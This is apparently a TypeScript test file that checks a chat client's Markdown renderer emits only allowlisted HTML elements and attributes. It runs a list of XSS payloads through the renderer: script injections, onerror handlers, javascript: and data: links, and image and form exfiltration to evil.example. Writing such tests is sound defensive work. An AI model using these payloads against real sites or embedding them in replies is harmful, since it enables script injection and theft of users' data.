import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { markdown } from './pieces.ts';
import { settled, streaming } from './render.ts';

const elements = new Set(
  (
    'a blockquote br button code del div em h2 h3 h4 h5 hr input li ol p pre span strong table tbody td th thead tr ' +
    'ul svg path rect line circle ' +
    'b i u ins s small mark sub sup kbd samp var q cite dfn abbr details summary'
  ).split(' '),
);
// Attributes of the app's own icons, which are the only `svg` elements allowed.
const iconAttributes = new Set(
  (
    'xmlns width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin class aria-hidden d x y rx ry ' +
    'x1 x2 y1 y2 cx cy r'
  ).split(' '),
);
const attributes = new Set(
  'aria-busy aria-hidden aria-label aria-live checked class data-note data-text dir disabled href open rel role scope start tabindex title type'.split(
    ' ',
  ),
);
const icons = new Set(['svg', 'path', 'rect', 'line', 'circle']);

const tag = /<\/?([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s"'<>/=]+(?:="[^"]*")?)*)\s*\/?>/g;

/** Fails unless the markup consists only of text and the renderer's elements. */
function expectSafe(markup: string): void {
  // React escapes both characters in text, so any that remain after removing our tags belong to another tag.
  expect(markup.replace(tag, '')).not.toMatch(/[<>]/);
  for (const [, element = '', rest = ''] of markup.matchAll(tag)) {
    expect(elements).toContain(element);
    for (const [, name = '', , value = ''] of rest.matchAll(/([^\s=]+)(="([^"]*)")?/g)) {
      expect(icons.has(element) ? iconAttributes : attributes).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
      if (name.startsWith('data-')) expect(value).toMatch(/^[\w-]{1,40}$/);
      if (name === 'type') expect(['checkbox', 'button']).toContain(value);
      if (name === 'rel') expect(value).toBe('noreferrer noopener');
    }
  }
  for (const [icon = ''] of markup.matchAll(/<svg[^>]*>/g)) expect(icon).toContain('class="lucide ');
}

/** Attacks on chat clients that have been found in replies, and variations of them. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  'a <img/src/onerror=alert(1)> b',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.example">',
  '<form action="https://evil.example"><input name=key><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; *{background:url(//evil.example)}</style>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]><?php system("id") ?><!DOCTYPE html>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1)) [x](<java\nscript:alert(1)>) [x](\u0001javascript:alert(1))',
  '[x](&#106;avascript:alert(1)) [x](javascript&colon;alert(1)) [x](javascript&#x3A;alert(1)) [x](javascript&#0000058alert(1))',
  '[x](<  javascript:alert(1)>) [x]( javascript:alert(1) "t")',
  '[x](vbscript:msgbox(1)) [x](data:text/html,<script>alert(1)</script>) [x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd) [x](smb://evil.example/a) [x](//evil.example) [x](\\\\evil.example\\a)',
  '[x](ms-msdt:/id) [x](parlance://open?x) [x](blob:https://a/b) [x](view-source:https://a) [x](about:blank)',
  '[x](https://example.org"onmouseover="alert(1)) [x](https://a.example/"><img src=x onerror=alert(1)>)',
  '[x](https://example.org "onmouseover=alert(1) \\"><script>alert(1)</script>")',
  '<javascript:alert(1)> <data:text/html,x> <vbscript:x> <file:///x> <https://ok.example/"onclick=alert(1)>',
  'xmpp:me@evil.example ftp://evil.example/x javascript://example.org/%0aalert(1)',
  '[x][a] [a] ![y][a]\n\n[a]: javascript:alert(1)',
  '[x][__proto__] [constructor] [toString]\n\n[__proto__]: javascript:alert(1)',
  '[x][b]\n\n[b]: <data:text/html,<script>alert(1)</script>> "<script>"',
  '![x](https://evil.example/?q=secret) ![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![`"><script>alert(1)</script>`](x" onerror="alert(1)) ![][img]\n\n[img]: https://evil.example/a.png',
  '[![a](javascript:alert(1))](javascript:alert(2)) [a [b](javascript:alert(1)) c](https://example.org)',
  '[[[[[a](javascript:1)](javascript:2)](javascript:3)](javascript:4)](javascript:5)',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
  '```js onload=alert(1)\n${alert(1)}\n```\n`</code><script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```\n```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```\n```svg\n<svg onload=alert(1)>\n```',
  '```echarts\n{"tooltip":{"formatter":"function(){alert(1)}"}}\n```',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <img src=x onerror=alert(1)> | ![](https://evil.example) |',
  '- [x] <script>alert(1)</script>\n- [ ] "onclick="alert(1)\n1. <svg onload=alert(1)>',
  '> <iframe src=javascript:alert(1)>\n> > [x](javascript:alert(1))',
  '# <img src=x onerror=alert(1)> [x](javascript:alert(1)) {onclick=alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62; &amp;lt;script&amp;gt;',
  '\\<script>alert(1)\\</script> \u0000<script>\u0000 \u2028<script>\u2029',
  '<sub onclick=alert(1)>x</sub> <kbd style="x"><script>alert(1)</script></kbd> <mark><mark><mark>',
  '<details ontoggle=alert(1) open><summary onclick=x>[x](javascript:alert(1))</summary>\n\n<script>alert(1)</script>\n\n</details><img src=x>',
  '<details>\n\n'.repeat(40),
  '[^1] [^x]: <script>alert(1)</script>\n\n[^1]: javascript:alert(1)',
  '<a href="https://example.org">ok</a> <br onclick=alert(1)> <br/><br >',
];

describe('C10 a reply produces only elements of the renderer', () => {
  it.each(attacks)('%s', (attack) => {
    expectSafe(settled(attack));
    expectSafe(settled(`before\n\n${attack}\n\nafter`));
    for (let end = 0; end <= attack.length; end += 1) expectSafe(streaming(attack.slice(0, end)));
  });

  it('holds for all attacks in one reply', () => {
    expectSafe(settled(attacks.join('\n\n')));
    expectSafe(settled(attacks.join(' ')));
  });

  it('holds for random Markdown, finished and streaming', () => {
    fc.assert(
      fc.property(markdown(60), (text) => {
        expectSafe(settled(text));
        expectSafe(streaming(text));
      }),
      { numRuns: 300 },
    );
  });

  it('detects what isn’t allowed', () => {
    for (const bad of [
      '<script>',
      '<p onclick="x">',
      '<a href="javascript:x">',
      '<svg onload="x">',
      '<p style="x">',
      '<img src="x"/>',
      "<p a='x'>",
    ]) {
      expect(() => expectSafe(bad), bad).toThrow();
    }
  });
});
